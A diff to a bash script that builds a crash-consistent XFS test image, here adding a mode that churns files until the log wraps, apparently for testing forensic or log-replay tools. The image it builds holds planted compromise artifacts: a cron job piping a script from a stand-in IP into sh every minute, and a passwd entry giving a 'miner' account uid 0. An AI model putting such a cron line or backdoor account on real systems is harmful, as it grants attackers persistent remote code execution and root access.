@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# make-dirty-xfs.sh OUT.img [v5|v4]
+# make-dirty-xfs.sh OUT.img [v5|v4|wrap]
 #
 # Builds a small XFS image that looks like a Linux root and leaves it the way
 # a crash-consistent snapshot does: the newest writes only in the log. Phase 1
@@ -14,8 +14,13 @@
 # replay with a kernel mount of a copy. Needs root, mkfs.xfs, xfs_io, a
 # kernel with XFS (and CONFIG_XFS_SUPPORT_V4 for v4). Prints nothing on
 # success; the image's log is left dirty.
+#
+# wrap is v5 (1 KiB blocks) with, before the last changes, enough churn (files created,
+# synced, deleted) that the log wraps and the pending part of it runs across
+# the physical end of the log: the kernel's head cycle (from
+# /sys/fs/xfs/<dev>/log) is ahead of its tail's.
 set -euo pipefail
-out=${1:?usage: make-dirty-xfs.sh OUT.img [v5|v4]}
+out=${1:?usage: make-dirty-xfs.sh OUT.img [v5|v4|wrap]}
 kind=${2:-v5}
 mnt=$(mktemp -d)
 cleanup() { mountpoint -q "$mnt" && umount "$mnt"; rmdir "$mnt"; }
@@ -25,6 +30,9 @@ rm -f "$out"
 truncate -s 32M "$out"
 args=(-q -f -L dirty)  # the default log is already the minimum (1368 blocks)
 [ "$kind" = v4 ] && args+=(-m crc=0)
+# 1 KiB blocks without reflink: the smallest log mkfs allows (2.5 MiB), so
+# that wrapping it takes little churn.
+[ "$kind" = wrap ] && args+=(-b size=1024 -m reflink=0)
 # mkfs.xfs refuses filesystems under 300 MB unless these fstests variables
 # are set: their purpose is small test filesystems.
 TEST_DIR=1 TEST_DEV=1 QA_CHECK_FS=1 mkfs.xfs "${args[@]}" "$out"
@@ -44,6 +52,18 @@ umount "$mnt"
 
 # Phase 2: what the running system did just before the snapshot.
 mount -o loop "$out" "$mnt"
+if [ "$kind" = wrap ]; then
+  sys=/sys/fs/xfs/$(basename "$(findmnt -n -o SOURCE "$mnt")")/log
+  for round in $(seq 1 300); do
+    mkdir "$mnt/churn"
+    for i in $(seq 1 100); do : >"$mnt/churn/f$i"; done
+    rm -rf "$mnt/churn"
+    head=$(cat "$sys/log_head_lsn") tail=$(cat "$sys/log_tail_lsn")
+    # cycle:block; stop once the pending part of the log straddles its end.
+    if [ "${head%%:*}" -gt "${tail%%:*}" ] && [ "${head#*:}" -gt 50 ]; then break; fi
+  done
+  [ "${head%%:*}" -gt "${tail%%:*}" ] || { echo "log did not wrap: head $head tail $tail" >&2; exit 1; }
+fi
 printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\n' >"$mnt/etc/cron.d/0miner"
 chmod 644 "$mnt/etc/cron.d/0miner"
 printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nminer:x:0:0::/root:/bin/sh\n' >"$mnt/etc/passwd"
